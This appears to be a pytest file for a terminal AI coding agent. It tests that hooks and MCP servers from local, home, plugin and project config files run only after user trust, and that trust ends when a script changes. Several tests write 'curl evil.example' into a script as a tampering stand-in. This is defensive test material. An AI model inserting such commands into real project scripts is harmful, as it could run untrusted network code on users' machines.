"""A hook or server of any source that would run a project's file waits for trust, which can be given."""

import asyncio
import json
import os
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.support.agents import make_agent
from tests.support.knowledge import write
from tests.support.scripted_client import Reply, call
from tui_agent.agent.hooks.hooks import Hooks, LoadedHooks
from tui_agent.agent.mcp.records import ServerState
from tui_agent.agent.mcp.settings import McpServerSettings, ServerSpec
from tui_agent.app.trust_commands import NO_HOOKS, hook_lines
from tui_agent.cli.arguments import parse
from tui_agent.cli.extensions import Extensions, state_of_project
from tui_agent.cli.wiring import Wiring
from tui_agent.config import config_path
from tui_agent.foreign_servers import servers_of_user
from tui_agent.paths import data_dir
from tui_agent.plugins import PLUGINS, PluginStore, digest_of, read_plugin
from tui_agent.sandbox import SandboxState
from tui_agent.session.entries import ToolStatus
from tui_agent.trust import PinnedFiles, TrustItem, TrustStore, named_files

SCRIPT = "check.sh"
LINE = f"sh {SCRIPT}"
WORDS = {"command": "sh", "args": [SCRIPT]}
HOOKS = {"hooks": {"Stop": [{"hooks": [{"type": "command", "command": LINE}]}]}}
SERVERS = {"mcpServers": {"x": WORDS}}
OWN_HOOK = f'[[hooks]]\nevent = "run_end"\ncommand = "{LINE}"\n'
OWN_SERVER = f'[mcp.x]\ncommand = "sh"\nargs = ["{SCRIPT}"]\n'
HOME_FILES = {
    ".claude/settings.json": json.dumps(HOOKS),
    ".codex/hooks.json": json.dumps(HOOKS),
    ".claude.json": json.dumps(SERVERS),
    ".codex/config.toml": f'[mcp_servers.x]\ncommand = "sh"\nargs = ["{SCRIPT}"]\n',
    ".config/opencode/opencode.json": json.dumps({"mcp": {"x": {"command": ["sh", SCRIPT]}}}),
    ".pi/agent/mcp.json": json.dumps(SERVERS),
}
PLUGIN_FILES = {"hooks/hooks.json": json.dumps(HOOKS), ".mcp.json": json.dumps(SERVERS)}
PROJECT_FILES = {
    ".tui-agent/config.toml": OWN_HOOK + OWN_SERVER,
    ".claude/settings.json": json.dumps(HOOKS),
    ".codex/hooks.json": json.dumps(HOOKS),
    ".mcp.json": json.dumps(SERVERS),
}
PROGRAM = TrustItem("program", SCRIPT, "is run by a command in your settings")

Put = Callable[[Path], None]


def in_config(text: str) -> Put:
    def put(_home: Path) -> None:
        write(config_path(), text)
        config_path().chmod(0o600)

    return put


def in_home(name: str, text: str) -> Put:
    return lambda home: write(home / name, text) and None


def in_plugin(name: str, text: str) -> Put:
    def put(home: Path) -> None:
        write(home / "kit" / name, text)
        PluginStore(data_dir() / PLUGINS).add(
            read_plugin(home / "kit"), "kit", digest_of(home / "kit")
        )

    return put


SOURCES: dict[str, Put] = {
    "hook of config.toml": in_config(OWN_HOOK),
    "server of config.toml": in_config(OWN_SERVER),
    **{name: in_home(name, text) for name, text in HOME_FILES.items()},
    **{f"plugin's {name}": in_plugin(name, text) for name, text in PLUGIN_FILES.items()},
}


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    for name in ("DATA", "CONFIG"):
        monkeypatch.setenv(f"TUI_AGENT_{name}_DIR", str(tmp_path / name.lower()))
    (tmp_path / "home").mkdir()
    return tmp_path / "home"


@pytest.fixture
def project(tmp_path: Path, home: Path) -> Path:
    project = tmp_path / "project"
    write(project / ".git/HEAD", "ref: refs/heads/main\n")
    write(project / SCRIPT, "exit 0\n")
    return project


def used(extensions: Extensions, project: Path) -> tuple[int, str]:
    """Return how many hooks and servers may run in a project, and the problems with the others."""
    hooks = extensions.load_hooks(project)
    servers = extensions.servers(project)
    problems = "\n".join([*hooks.problems, *servers.problems])
    return len(hooks.handlers) + len(servers.specs), problems


@pytest.mark.parametrize("source", SOURCES)
def test_it_waits_for_trust_and_runs_once_it_has_it(
    project: Path, home: Path, tmp_path: Path, source: str
) -> None:
    SOURCES[source](home)
    store = TrustStore(tmp_path / "trust.json")
    extensions = Extensions(lambda cwd: state_of_project(cwd, store).trusted)
    count, problems = used(extensions, project)
    assert count == 0
    assert f"it runs {SCRIPT}, and you have not trusted" in problems
    state = state_of_project(project, store)
    assert state.items == (PROGRAM,)
    assert state_of_project(project, store, assume_trust=True).trusted
    store.remember(project, state.digest, "trusted")
    assert used(extensions, project) == (1, "")
    write(project / SCRIPT, "curl evil.example\n")
    assert state_of_project(project, store).is_held_back


def test_every_file_with_servers_in_the_home_is_tried(home: Path, project: Path) -> None:
    for name, text in HOME_FILES.items():
        write(home / name, text)
    found = {server.program for server in servers_of_user(home, project)}
    assert found == {"Claude Code", "Codex", "OpenCode", "Pi"}


def test_a_server_of_an_editor_waits_for_trust(project: Path, tmp_path: Path) -> None:
    given = {"x": McpServerSettings(command="sh", args=(SCRIPT,))}
    for flags, count in ((), 0), (("--trust",), 1):
        wiring = Wiring(parse(["--cwd", str(project), *flags]))
        found = wiring.extensions.servers(project, given)
        wiring.store.close()
        assert len(found.specs) == count
        assert bool(found.problems) is (count == 0)


async def test_a_single_server_is_checked_before_it_starts(project: Path) -> None:
    spec = ServerSpec("x", McpServerSettings(command="sh", args=(SCRIPT,)), "user", project)
    extensions = Extensions(lambda _cwd: False)
    hub = extensions.add_hub(spec, project)
    changed = asyncio.Event()
    hub.watchers.append(changed.set)
    hub.start()
    while hub.status()[0].state is ServerState.STARTING:
        changed.clear()
        await changed.wait()
    assert "you have not trusted" in hub.status()[0].detail
    await extensions.aclose()


@pytest.mark.parametrize("source", [*SOURCES, *PROJECT_FILES])
def test_without_a_sandbox_each_file_that_is_run_is_part_of_the_answer(
    project: Path, home: Path, tmp_path: Path, source: str
) -> None:
    store = TrustStore(tmp_path / "trust.json")
    if source in SOURCES:
        SOURCES[source](home)
    else:
        write(project / source, PROJECT_FILES[source])
    state = state_of_project(project, store, find=lambda _outside: SandboxState(None))
    assert PROGRAM in state.items
    store.remember(project, state.digest, "trusted")
    write(project / SCRIPT, "curl evil.example\n")
    assert state_of_project(project, store, find=lambda _outside: SandboxState(None)).is_held_back


def test_a_hook_that_should_be_contained_waits_where_nothing_contains_it(
    project: Path, tmp_path: Path
) -> None:
    in_config(f"{OWN_HOOK}sandboxed = true\n")(tmp_path)
    store = TrustStore(tmp_path / "trust.json")
    for kind, count in ("landlock", 1), (None, 0):
        state = SandboxState(kind)  # type: ignore[arg-type]
        extensions = Extensions(lambda _cwd: False, find=lambda _outside, state=state: state)
        assert used(extensions, project)[0] == count
        held = state_of_project(project, store, find=lambda _outside, state=state: state)
        assert held.is_held_back is (count == 0)


@pytest.mark.parametrize("setting", ["status_line", "notify_command"])
def test_a_command_of_the_interface_waits_for_trust(
    project: Path, tmp_path: Path, setting: str
) -> None:
    in_config(f'[ui]\n{setting} = "{LINE}"\n')(tmp_path)
    store = TrustStore(tmp_path / "trust.json")
    extensions = Extensions(lambda cwd: state_of_project(cwd, store).trusted)
    assert "you have not trusted" in extensions.problem_of(project, LINE)
    state = state_of_project(project, store)
    assert state.items == (PROGRAM,)
    store.remember(project, state.digest, "trusted")
    assert extensions.problem_of(project, LINE) == ""
    write(project / SCRIPT, "curl evil.example\n")
    assert extensions.problem_of(project, LINE)


@pytest.mark.parametrize("sandboxed", ["false", "true"])
def test_a_file_that_cannot_be_read_is_a_problem(
    project: Path, tmp_path: Path, sandboxed: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    in_config(f"{OWN_HOOK}sandboxed = {sandboxed}\n{OWN_SERVER}sandboxed = {sandboxed}\n")(tmp_path)

    def refuse(*_given: object) -> None:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr("tui_agent.trust.read_inside", refuse)
    extensions = Extensions(lambda _cwd: True, find=lambda _outside: SandboxState("landlock"))
    count, problems = used(extensions, project)
    assert count == 0
    assert problems.count(f"{SCRIPT} can't be read: Permission denied") == 2
    assert "can't be read" in PinnedFiles().problem(project, LINE)
    state = state_of_project(project, TrustStore(tmp_path / "t.json"))
    assert ("cannot be read" in state.problem) is (sandboxed == "false")


async def test_a_hook_is_named_with_its_command_and_the_file_that_defines_it(
    project: Path, home: Path, tmp_path: Path
) -> None:
    line = "exit 2; " + "x" * 100
    refusing = {"type": "command", "command": line}
    hooks = json.dumps({"hooks": {"PreToolUse": [{"matcher": "", "hooks": [refusing]}]}}, indent=1)
    write(project / ".claude/settings.json", hooks)
    write(home / ".claude/settings.json", hooks)
    row = '[[hooks]]\nevent = "before_tool"\ncommand = "exit 2"\n'
    write(project / ".tui-agent/config.toml", row)
    in_config(row * 2)(tmp_path)
    loaded = Extensions(lambda _cwd: True).load_hooks(project)
    assert loaded.problems == ()
    shown = {
        f"{config_path()}": "exit 2",
        ".tui-agent/config.toml": "exit 2",
        "~/.claude/settings.json:9": line,
        ".claude/settings.json:9": line,
    }
    assert [handler.place for handler in loaded.handlers] == [str(config_path()), *shown]
    assert [handler.settings.command for handler in loaded.handlers] == ["exit 2", *shown.values()]
    page = [str(row) for row in hook_lines(loaded.handlers)]
    assert page[0] == "before_tool"
    assert page[1:-1] == [
        text
        for handler in loaded.handlers
        for text in (f"  {handler.settings.command}", f"    {handler.place}")
    ]
    found = loaded.handlers[-1]
    told = Hooks(lambda: LoadedHooks((found,)))
    harness = make_agent(tmp_path, [Reply(calls=(call("ls"),)), Reply("Ok.")], hooks=told)
    await harness.say("go")
    (result,) = harness.results()
    shortened = found.name
    assert len(shortened) <= 60
    assert result.status is ToolStatus.DENIED
    assert result.output == (
        f"The hook “{shortened}” (.claude/settings.json:9) refused this call: no reason given"
    )


async def test_the_page_of_hooks_says_that_there_are_none() -> None:
    assert list(hook_lines(())) == [NO_HOOKS]


async def test_a_file_that_appears_after_the_start_is_not_run_without_trust(
    project: Path, tmp_path: Path
) -> None:
    in_config(OWN_HOOK)(tmp_path)
    (project / SCRIPT).unlink()
    (hook,) = Extensions(lambda _cwd: False).load_hooks(project).handlers
    assert hook.problem_of(project, LINE) == ""
    write(project / SCRIPT, "touch mark\n")
    assert "you have not trusted" in hook.problem_of(project, LINE)


@pytest.mark.parametrize(
    "command",
    [
        f'"$CLAUDE_PROJECT_DIR"/{SCRIPT}',
        f"sh ${{CLAUDE_PROJECT_DIR}}/{SCRIPT}",
        f"sh $PWD/{SCRIPT} --all",
        f"sh ${{NOWHERE:-.}}/{SCRIPT}",
        f"sh ~/project/{SCRIPT}",
        "sh 'my check.sh'; true",
        "sh my\\ check.sh",
        f"sh {SCRIPT} 'unclosed",
    ],
)
def test_a_file_is_found_however_a_shell_would_find_it(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: str
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    write(project / "my check.sh", "exit 0\n")
    assert [path.name for path in named_files(project, project, command)]


def test_a_file_is_named_below_the_project_by_whatever_way_it_is_reached(
    project: Path, tmp_path: Path
) -> None:
    (tmp_path / "link").symlink_to(project)
    for start in (tmp_path / "link", project / ".." / project.name, f"/{project}"):
        command = f"sh {start}/{SCRIPT}"
        assert list(named_files(project, project, command)) == [project / SCRIPT], command
        assert PinnedFiles().problem(project, command) == ""


def test_a_file_of_the_same_name_elsewhere_is_not_taken_for_the_projects(
    project: Path, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOOKS", str(home))
    for command in (f"sh $HOOKS/{SCRIPT}", f"sh ~/{SCRIPT}", f"sh ${{HOME}}/{SCRIPT}"):
        assert not list(named_files(project, project, command)), command


def test_a_session_gets_the_servers_of_a_project_that_an_earlier_one_had_not_trusted(
    project: Path,
) -> None:
    write(project / ".mcp.json", json.dumps({"mcpServers": {"db": {"command": os.devnull}}}))
    below = project / "below"
    below.mkdir()
    extensions = Extensions(lambda cwd: cwd != below)
    first = extensions.hub(below)
    second = extensions.hub(project)
    assert first is not second
    assert extensions.hub(project) is second
    assert extensions.hub(below) is first


def test_sessions_of_a_project_share_servers_once_both_are_trusted(project: Path) -> None:
    trusted: set[Path] = set()
    extensions = Extensions(lambda cwd: cwd in trusted)
    first = extensions.hub(project)
    trusted |= {project, project / "below"}
    assert extensions.hub(project / "below") is first
